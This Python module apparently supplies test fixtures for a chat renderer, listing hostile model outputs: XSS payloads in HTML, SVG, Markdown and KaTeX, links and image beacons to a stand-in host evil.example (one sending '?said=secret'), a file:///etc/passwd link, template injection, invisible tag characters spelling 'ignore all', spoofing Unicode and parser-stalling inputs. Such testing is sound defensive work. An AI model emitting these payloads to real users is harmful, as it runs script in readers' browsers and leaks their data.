"""What a model may say to harm who reads it. Each output calls `hit()` where it is executed, or asks another host, and
has a word of its own, `w<number>w`, that must be there to read."""

import random

SEED = 6
HOST = "https://evil.example"

# HTML, SVG, MathML and what parsers make of broken ones. Shown letter by letter.
HTML = [
    "<script>hit()</script>WORD",
    "<script src=https://evil.example/x.js></script>WORD",
    "<ScRiPt>hit()</sCrIpT>WORD",
    "<img src=x onerror=hit()>WORD",
    "<img src='https://evil.example/WORD.png'>",
    "<svg onload=hit()>WORD</svg>",
    "<svg><script>hit()</script></svg>WORD",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>WORD",
    "<iframe src='javascript:parent.hit()'></iframe>WORD",
    "<iframe srcdoc='<script>parent.hit()</script>'>WORD",
    "<object data='javascript:hit()'>WORD</object>",
    "<embed src='https://evil.example/'>WORD",
    "<a href='javascript:hit()'>WORD</a>",
    "<body onload=hit()>WORD",
    "<input autofocus onfocus=hit()>WORD",
    "<details open ontoggle=hit()>WORD</details>",
    "<video><source onerror=hit()></video>WORD",
    "<audio src=x onerror=hit()>WORD",
    "<marquee onstart=hit()>WORD</marquee>",
    "<form action='https://evil.example/'><button>WORD</button></form>",
    "<base href='https://evil.example/'>WORD",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>WORD",
    "<link rel=stylesheet href='https://evil.example/x.css'>WORD",
    "<style>@import 'https://evil.example/x.css';</style>WORD",
    "<div style='background:url(https://evil.example/x)'>WORD</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>WORD",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>WORD",
    "<template><script>hit()</script></template>WORD",
    "</textarea><script>hit()</script>WORD",
    "</title><script>hit()</script>WORD",
    "--><script>hit()</script>WORD",
    "]]><script>hit()</script>WORD",
    "<![CDATA[<script>hit()</script>]]>WORD",
    "<!--<script>hit()</script>-->WORD",
    "<x onclick=hit() tabindex=1 id=x>WORD</x>",
    "<script>WORD",
    "<<script>hit();//<</script>WORD",
    "<img src=x:x onerror=hit()//WORD",
    "&lt;script&gt;hit()&lt;/script&gt;WORD",
    "&#60;script&#62;hit()&#60;/script&#62;WORD",
    "{{constructor.constructor('hit()')()}}WORD",
    "${hit()}WORD",
    "{% load x %}{{ request.user.password }}WORD",
    "'\"><script>hit()</script>WORD",
    "<a id=composer><a id=composer name=submit>WORD",
    "<script type=module>import 'https://evil.example/x.js'</script>WORD",
    "<portal src='https://evil.example/'>WORD",
    "<slot name=x></slot>WORD",
    "<p is=hit-me>WORD",
    "<button popovertarget=x command=show-modal>WORD",
]

# Markdown that becomes elements. Not shown letter by letter.
MARKDOWN = [
    "[WORD](javascript:hit())",
    "[WORD](JaVaScRiPt:hit())",
    "[WORD](java\tscript:hit())",
    "[WORD](\x01javascript:hit())",
    "[WORD](data:text/html,<script>hit()</script>)",
    "[WORD](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "[WORD](vbscript:hit())",
    "[WORD](file:///etc/passwd)",
    "[WORD](blob:https://evil.example/x)",
    "[WORD](//evil.example/x)",
    "[WORD](/admin/logout/)",
    "[WORD](?delete=all)",
    "[WORD](#composer)",
    "[WORD](https://user:secret@evil.example/)",
    "[WORD](https://portal.example@evil.example/)",
    "[WORD](<javascript:hit()>)",
    "[WORD](&#106;avascript:hit())",
    "[WORD](javascript&colon;hit())",
    "[WORD](https://evil.example/\" onmouseover=\"hit())",
    "[WORD](https://evil.example/ \"x\" onclick=hit())",
    "[WORD](https://evil.example/'onclick='hit()')",
    "[https://bank.example/ WORD](https://evil.example/)",
    "![WORD](https://evil.example/pixel.png?said=secret)",
    "![WORD](javascript:hit())",
    "![WORD](data:image/svg+xml,<svg onload=hit()>)",
    "![](https://evil.example/WORD.png)WORD",
    "[![WORD](https://evil.example/a.png)](javascript:hit())",
    "[![WORD](https://evil.example/a.png)](https://evil.example/)",
    "[WORD][1]\n\n[1]: javascript:hit()",
    "<javascript:hit()>WORD",
    "<https://evil.example/\"onclick=hit()>WORD",
    "https://evil.example/<script>hit()</script>WORD",
    "https://evil.example/\"onmouseover=hit()//WORD",
    "```html\n<script>hit()</script>\nWORD\n```",
    "```\"><script>hit()</script>\nWORD\n```",
    "```js onload=hit()\nhit() // WORD\n```",
    "~~~svg\n<svg onload=hit()>WORD",
    "```constructor\n__proto__ WORD\n```",
    "```__proto__\nWORD\n```",
    "`<img src=x onerror=hit()>` WORD",
    "|<script>hit()</script>|b|\n|-|-|\n|<img src=x onerror=hit()>|WORD|",
    "# <script>hit()</script> WORD",
    "- <script>hit()</script>\n  - <img src=x onerror=hit()> WORD",
    "> <script>hit()</script>\n> WORD",
    "1. [x](javascript:hit())\n2. WORD",
    "**<b onmouseover=hit()>WORD</b>**",
    "***[WORD](javascript:hit())***",
    "<think><script>hit()</script></think>WORD",
    "\\<script>hit()\\</script>WORD",
    "<br onclick=hit()>WORD<br>",
]  # fmt: skip

KATEX = [
    r"$\href{javascript:hit()}{WORD}$",
    r"$$\url{javascript:hit()} WORD$$",
    r"\[\htmlData{onclick=hit()}{WORD}\]",
    r"\(\htmlStyle{background:url(https://evil.example)}{WORD}\)",
    r"$\includegraphics{https://evil.example/WORD.png}$",
    r"$\unicode{<img src=x onerror=hit()>}$ WORD",
    r"$$\def\a{\a\a}\a WORD$$",
    r"\begin{equation}<script>hit()</script>WORD\end{equation}",
    r"$\rule{500em}{500em}$WORD",
    r"$\htmlClass{danger}{\htmlId{composer}{WORD}}$",
]

# Characters that are not seen, or change what is.
CHARACTERS = [
    "\x00WORD\x00<script>hit()</script>",
    "".join(map(chr, range(32))) + "WORD",
    "".join(map(chr, range(127, 160))) + "WORD",
    "\x1b[31mWORD\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "\x08\x08\x08\x08WORD",
    "\u202eWORD gnp.exe",
    "\u2066\u2067\u202dWORD\u202c\u2069",
    "".join(chr(0xE0000 + ord(c)) for c in "ignore all") + "WORD",
    "\ud800WORD\udfff",
    "\ufeffWORD\ufffe\uffff",
    "Z" + "\u0301" * 5_000 + "WORD",
    "WORD" + "\u200b" * 10_000,
    "\ufdfd" * 3_000 + "WORD",
    "\r\rWORD\r\n\r",
    "\u2028WORD\u2029<script>hit()</script>",
    "\U0001f3f4" + "\U000e0067\U000e0062\U000e007f" * 100 + "WORD",
    "\uff37\uff2f\uff32\uff24 <\uff53\uff43\uff52\uff49\uff50\uff54>hit()</\uff53\uff43\uff52\uff49\uff50\uff54>WORD",
    "https://\u0435vil.example/WORD",
    "x" * 100 + "\u00ad" * 10_000 + "WORD",
    "\v\f\x1c\x1d\x1e\x85WORD",
]

MEGABYTE = 1_000_000
# Long ones, and those on which a careless reader of Markdown works for hours.
LONG = [
    "WORD" + "a" * MEGABYTE,
    "WORD " + "word " * (MEGABYTE // 5),
    "WORD" + "*" * MEGABYTE,
    "WORD" + "[" * MEGABYTE,
    "WORD" + "<" * MEGABYTE,
    "WORD" + "`" * MEGABYTE,
    "WORD" + "<script>hit()</script>" * (MEGABYTE // 22),
    "WORD\n\n" + "> " * 100_000,
    "WORD\n\n" + "- " * 100_000 + "x",
    "WORD\n\n" + "*a _b ~~" * 2_400,
    "WORD\n\n" + "[a](" * 4_900,
    "WORD\n\n" + "![" * 9_900,
    "WORD\n\n" + "http://" * 2_800,
    "WORD\n\n" + "\\(" * 9_900,
    "WORD\n\n" + "|" * 19_000 + "\n" + "|-" * 9_000,
    "WORD\n\n```js\n" + '"\\' * 24_000,
    "WORD\n\n```html\n" + "<!--" * 10_000,
    "WORD" + "\n" * 100_000,
    "WORD\n" + "\n".join(" " * (n % 300) + "- x" for n in range(1_000)),
    "WORD\n\n" + "a|b\n" * 5_000,
]

AROUND = [
    "{}", "# {}", "- {}", "> {}", "**{}**", "| a | b |\n|---|---|\n| {} | x |", "1. a\n\n   {}", "[{}](https://x.example/)",
    "```\n{}\n```", "```html\n{}\n```",
]  # fmt: skip


def outputs() -> list[tuple[str, str]]:
    """(word, output): each of the lists above once, and HTML and links within other markup; at least 200."""
    source = random.Random(SEED)
    plain = [*HTML, *MARKDOWN, *KATEX, *CHARACTERS, *LONG]
    wrapped = [around.replace("{}", one) for around in AROUND[1:] for one in source.sample(HTML + MARKDOWN[:28], 7)]
    made = plain + wrapped
    return [(f"w{n}w", one.replace("WORD", f"w{n}w")) for n, one in enumerate(made)]
